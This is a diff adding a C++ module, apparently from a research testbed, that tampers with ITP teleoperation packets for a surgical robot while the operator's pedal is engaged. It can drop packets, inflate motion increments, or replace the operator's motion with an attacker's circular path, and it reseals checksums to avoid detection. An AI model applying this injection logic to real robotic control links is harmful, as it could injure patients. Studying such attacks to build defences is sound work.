@@ -1,0 +1,70 @@
+#include "attack/itp_injection.hpp"
+
+#include <algorithm>
+#include <cmath>
+
+#include "common/clock.hpp"
+#include "common/units.hpp"
+#include "net/itp_packet.hpp"
+
+namespace rg {
+
+ItpInjectionWrapper::ItpInjectionWrapper(const ItpInjectionConfig& config)
+    : config_(config), rng_(config.seed) {}
+
+bool ItpInjectionWrapper::on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) {
+  auto decoded = decode_itp(bytes, /*verify_checksum=*/false);
+  if (!decoded.ok()) return true;  // not an ITP packet; leave it alone
+  ItpPacket pkt = decoded.value();
+
+  // The attack only matters while the robot is engaged.
+  if (!pkt.pedal_down) return true;
+
+  const std::uint64_t idx = pedal_packets_seen_++;
+  if (idx < config_.delay_packets) return true;
+  if (config_.duration_packets > 0 &&
+      idx >= static_cast<std::uint64_t>(config_.delay_packets) + config_.duration_packets) {
+    return true;
+  }
+
+  switch (config_.mode) {
+    case ItpInjectionConfig::Mode::kDropPackets:
+      ++injections_;
+      if (!first_tick_) first_tick_ = tick;
+      return false;  // suppress delivery (the console "went silent")
+
+    case ItpInjectionConfig::Mode::kInflateIncrement: {
+      if (!direction_chosen_) {
+        direction_ = config_.increment_direction;
+        if (direction_.norm() < 1e-12) {
+          // Random unit direction (uniform on the sphere via normals).
+          direction_ = Vec3{rng_.normal(), rng_.normal(), rng_.normal()};
+        }
+        direction_ = (1.0 / direction_.norm()) * direction_;
+        direction_chosen_ = true;
+      }
+      pkt.pos_increment += config_.increment_magnitude * direction_;
+      break;
+    }
+
+    case ItpInjectionConfig::Mode::kHijack: {
+      // Replace the operator's motion with the attacker's circle.
+      const double t = static_cast<double>(injections_) * kControlPeriodSec;
+      const double w = 2.0 * kPi / config_.hijack_period;
+      const double r = config_.hijack_radius;
+      // Increment = derivative of the circle sampled at 1 kHz.
+      pkt.pos_increment = Vec3{-r * w * std::sin(w * t) * kControlPeriodSec,
+                               r * w * std::cos(w * t) * kControlPeriodSec, 0.0};
+      break;
+    }
+  }
+
+  // Re-serialize in place, checksum re-sealed: format stays legitimate.
+  const ItpBytes sealed = encode_itp(pkt);
+  std::copy(sealed.begin(), sealed.end(), bytes.begin());
+  ++injections_;
+  if (!first_tick_) first_tick_ = tick;
+  return true;
+}
+
+}  // namespace rg
